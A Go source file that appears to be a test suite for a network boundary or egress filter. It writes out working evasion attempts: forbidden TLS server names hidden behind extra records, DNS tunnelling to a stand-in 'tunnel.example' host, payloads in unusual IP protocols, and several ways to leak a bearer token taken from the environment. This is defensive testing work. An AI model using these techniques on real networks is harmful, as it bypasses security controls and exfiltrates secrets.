package escape

import (
	"compress/gzip"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"os"
	"slices"
	"strings"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// disguises are attempts to say something in a way that the boundary takes for
// something else than its receiver does.
func disguises() []attempt {
	return slices.Concat(disguisedHellos(), disguisedQuestions(), disguisedPackets(), echoes())
}

// disguisedHellos begin TLS so that a boundary might not see that they do. Their
// control begins in the same way, with the name of the connection.
func disguisedHellos() []attempt {
	behind := func(name, tries string, first ...byte) attempt {
		try := func(sni string) error {
			return hello(openName, sni, func(b []byte) [][]byte { return [][]byte{append(slices.Clone(first), b...)} })
		}
		return attempt{name: "sni-" + name, tries: tries, in: plain, at: host, arrives: true,
			attack: func(w *world) error { return try(w.Mark + "." + deniedName) },
			control: func(w *world) error {
				c, err := dial(publicAddr, 443)
				if err != nil {
					return err
				}
				defer c.Close()
				t := tls.Client(c, &tls.Config{ServerName: w.Mark + "." + deniedName, InsecureSkipVerify: true})
				return t.Handshake()
			}}
	}
	honest := func(w *world) error { return sayTLS(boundName, boundName, get(boundName, "/ok/"+w.Mark)) }
	spoken := func(name, tries string, protocols []string, say func(w *world) string) attempt {
		return attempt{name: "alpn-" + name, tries: tries, in: plain, at: plain, arrives: true, control: honest,
			attack: func(w *world) error {
				t, err := secure(boundName, 443, boundName, protocols...)
				if err != nil {
					return err
				}
				return answered(talk(t, 1, say(w)))
			}}
	}
	named := func(name, tries string, sni func(w *world) string) attempt {
		return attempt{name: "sni-" + name, tries: tries, in: plain, at: plain, arrives: true,
			control: func(w *world) error { return sayTLS(openName, openName, get(openName, "/"+w.Mark)) },
			attack: func(w *world) error {
				long := strings.Repeat("a", len(sni(w)))
				return hello(openName, long+".b", func(b []byte) [][]byte {
					// Of the same length, since lengths stand before it.
					return [][]byte{[]byte(strings.Replace(string(b), long+".b", sni(w)+".b", 1))}
				})
			}}
	}
	return []attempt{
		behind("behind-an-alert", "a forbidden server name behind a warning, which servers pass over", 0x15, 3, 1, 0, 2, 1, 90),
		behind("behind-two-alerts", "the same behind two", 0x15, 3, 3, 0, 2, 1, 100, 0x15, 3, 3, 0, 2, 1, 100),
		behind("behind-a-cipher-change", "the same behind a change of the cipher", 0x14, 3, 3, 0, 1, 1),
		behind("behind-nothing", "the same behind a record without content", 0x16, 3, 1, 0, 0),
		behind("behind-a-hello-request", "the same behind a request for a hello", 0x16, 3, 1, 0, 4, 0, 0, 0, 0),
		behind("behind-data", "the same behind a record of data without any", 0x17, 3, 3, 0, 0),
		behind("behind-a-heartbeat", "the same behind a heartbeat", 0x18, 3, 1, 0, 3, 1, 0, 0),
		named("with-a-zero", "a server name with a zero byte in it", func(w *world) string { return w.Mark + "." + deniedName + "\x00" }),
		named("with-a-line", "a server name with the end of a line in it", func(w *world) string { return w.Mark + "." + deniedName + "\r\n" }),
		spoken("h1-for-h2", "HTTP/1 where HTTP/2 was agreed on, for a path beyond", []string{"h2"}, func(w *world) string { return get(boundName, "/"+w.Mark) }),
		spoken("h2-for-h1", "HTTP/2 where HTTP/1 was agreed on", []string{"http/1.1"}, func(w *world) string {
			return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + w.Mark
		}),
		spoken("unknown", "a protocol that nobody knows", []string{"x-" + deniedName}, func(w *world) string { return w.Mark + "\n" }),
	}
}

// disguisedQuestions are DNS messages that are no plain question.
func disguisedQuestions() []attempt {
	with := func(name, tries string, change func(m *dns.Msg, mark string)) attempt {
		return leak("question-"+name, tries, "udp", func(network, server, mark string) error {
			if server != gateway {
				// Resolvers out there record the names of plain questions.
				return question(network, server, mark+".wild.test", dns.TypeA, false)
			}
			return question(network, server, "x.wild.test", dns.TypeA, false, func(m *dns.Msg) { change(m, mark) })
		})
	}
	record := func(mark string) dns.RR {
		return &dns.TXT{Hdr: dns.RR_Header{Name: mark + ".tunnel.example.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{mark}}
	}
	return []attempt{
		with("second", "data in a second question", func(m *dns.Msg, mark string) {
			m.Question = append(m.Question, dns.Question{Name: mark + ".tunnel.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		}),
		with("additional", "data in a record beside the question", func(m *dns.Msg, mark string) { m.Extra = append(m.Extra, record(mark)) }),
		with("answered", "data in an answer that stands in the question", func(m *dns.Msg, mark string) { m.Answer = append(m.Answer, record(mark)) }),
		with("update", "a change of a zone", func(m *dns.Msg, mark string) { m.Opcode, m.Ns = dns.OpcodeUpdate, []dns.RR{record(mark)} }),
		with("notify", "a message that a zone has changed", func(m *dns.Msg, mark string) { m.Opcode, m.Answer = dns.OpcodeNotify, []dns.RR{record(mark)} }),
		with("class", "data in a class that is not the internet's", func(m *dns.Msg, mark string) { m.Question[0].Qclass = dns.ClassCHAOS }),
	}
}

// disguisedPackets carry a payload in protocols that look like something else.
func disguisedPackets() []attempt {
	carry := func(proto byte, head ...byte) func(w *world) error {
		return func(w *world) error { return raw(ipv4(target, proto, 0, nil, append(head, w.Mark...)), target) }
	}
	return []attempt{
		on(strong, "esp", "a packet that says it is encrypted", carry(unix.IPPROTO_ESP, 0, 0, 0, 1, 0, 0, 0, 1)),
		on(strong, "authentication-header", "a datagram behind a header of signatures", carry(unix.IPPROTO_AH, unix.IPPROTO_UDP, 1, 0, 0, 0, 0, 0, 1, 0, 0, 0, 1)),
		on(strong, "dccp", "a packet of DCCP", carry(unix.IPPROTO_DCCP, make([]byte, 16)...)),
		on(strong, "six-in-four", "a packet of IPv6 within one of IPv4", carry(unix.IPPROTO_IPV6, 0x60, 0, 0, 0, 0, 40, 17, 64)),
		on(strong, "ospf", "a packet of routers", carry(89, 2, 1, 0, 44)),
		on(strong, "etherip", "a frame within a packet", carry(97, 0x30, 0)),
		on(strong, "four-in-six", "a packet of IPv4 within one of IPv6", func(w *world) error {
			return raw6(unix.IPPROTO_IPIP, ipv4(target, unix.IPPROTO_UDP, 0, nil, udp(udpPort, w.Mark)))
		}),
		on(strong, "hop-by-hop", "a packet of IPv6 behind options for every hop", func(w *world) error {
			return raw6(unix.IPPROTO_HOPOPTS, append([]byte{253, 0, 1, 4, 0, 0, 0, 0}, w.Mark...))
		}),
	}
}

// echoes are ways to get back what the boundary put into a request, and to have it
// put where it must not be.
func echoes() []attempt {
	honest := func(w *world) error { return present(w, vaultName, vaultName, vaultName, "/ok/x", bearer(vaultToken)) }
	trick := func(name, tries string, attack func(w *world) error) attempt {
		return attempt{name: "secret-" + name, tries: tries, in: plain, at: plain, arrives: true, control: honest, attack: attack}
	}
	// A server out there that repeats what it is given shows that it does.
	repeated := func(name, tries, path string, version int) attempt {
		try := func(w *world, url, token string) error {
			var hints []string
			req, err := http.NewRequest(http.MethodGet, url+path, http.NoBody)
			if err != nil {
				return broken(err)
			}
			req = req.WithContext(httptrace.WithClientTrace(req.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
				hints = append(hints, fmt.Sprint(h))
				return nil
			}}))
			req.Header.Set("Authorization", "Bearer "+token)
			req.Header.Set("Accept-Encoding", "gzip")
			tr := &http.Transport{TLSClientConfig: insecure(), Protocols: new(http.Protocols)}
			tr.Protocols.SetHTTP1(version == 1)
			tr.Protocols.SetHTTP2(version == 2)
			defer tr.CloseIdleConnections()
			resp, err := (&http.Client{Transport: tr, Timeout: patience}).Do(req)
			if err != nil {
				return broken(err)
			}
			defer resp.Body.Close()
			in := io.Reader(resp.Body)
			if resp.Header.Get("Content-Encoding") == "gzip" {
				if in, err = gzip.NewReader(in); err != nil {
					return broken(err)
				}
			}
			body, err := io.ReadAll(in)
			if err != nil {
				return broken(err)
			}
			if resp.ProtoMajor != version || resp.Header.Get("X-Proof") != proven(string(w.Secret)) {
				return broken(fmt.Errorf("the secret was not put in, or by HTTP/%d: %s %v", resp.ProtoMajor, resp.Status, resp.Header))
			}
			// Names lose their case on the way.
			if all := fmt.Sprint(hints, resp.Status, resp.Header, resp.Trailer, string(body)); !strings.Contains(strings.ToLower(all), strings.ToLower(string(w.Secret))) {
				return fmt.Errorf("%.200s", all)
			}
			return nil
		}
		return attempt{name: fmt.Sprintf("secret-repeated-%s-h%d", name, version), tries: tries, in: plain, at: host,
			attack:  func(w *world) error { return try(w, "https://"+vaultName, os.Getenv(vaultToken)) },
			control: func(w *world) error { return try(w, "https://127.0.0.1", string(w.Secret)) }}
	}
	var list []attempt
	for _, x := range [][3]string{
		{"in-hints", "before its answer", "hints"}, {"in-trailers", "behind its answer", "trailers"}, {"in-a-header", "in a header of its answer", "header"},
		{"in-a-name", "in the name of a header", "name"}, {"in-a-body", "in a body of a stated length", "body"}, {"in-pieces", "byte by byte", "pieces"},
		{"in-halves", "cut where a buffer ends", "halves"}, {"in-an-error", "with a status of failure", "error"}, {"compressed", "compressed, if the client takes that", "compressed"},
	} {
		for _, version := range []int{1, 2} {
			list = append(list, repeated(x[0], "a server that repeats it "+x[1], "/ok/repeat/"+x[2], version))
		}
	}
	return append(list,
		trick("in-a-trailer", "what stands for the secret, behind a body", func(w *world) error {
			return sayTLS(vaultName, vaultName, lines("POST /ok/x HTTP/1.1", "Host: "+vaultName, tag(w), "Transfer-Encoding: chunked", "Trailer: Authorization")+
				"1\r\nx\r\n0\r\n"+bearer(vaultToken)+"\r\n\r\n")
		}),
		trick("in-two-lines", "a header that goes on in a second line", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/ok/x", "X-T: a\r\n "+os.Getenv(vaultToken), "Authorization: Bearer x\r\n "+os.Getenv(vaultToken))
		}),
		trick("in-a-cookie", "a cookie", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/ok/x", "Cookie: t="+os.Getenv(vaultToken))
		}),
		trick("of-the-connection", "a header that the connection is said to own", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/ok/x", "Connection: Authorization, X-T", "X-T: "+os.Getenv(vaultToken))
		}),
		trick("for-a-proxy", "the header for proxies", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/ok/x", "Proxy-Authorization: Bearer "+os.Getenv(vaultToken))
		}),
		trick("escaped", "the same, escaped in the path", func(w *world) error {
			var b strings.Builder
			for _, c := range []byte(os.Getenv(vaultToken)) {
				fmt.Fprintf(&b, "%%%02x", c)
			}
			return present(w, vaultName, vaultName, vaultName, "/ok/"+b.String())
		}),
		attempt{name: "secret-by-name", tries: "the host of a secret by an address of one's own", in: plain, at: plain, arrives: true, control: honest,
			attack: func(w *world) error {
				a, err := resolve(openName, "ip4")
				if err != nil {
					return broken(err)
				}
				return errors.Join(sayTLS(a.String(), vaultName, lines("GET /ok/x HTTP/1.1", "Host: "+vaultName, tag(w), bearer(vaultToken))))
			}})
}
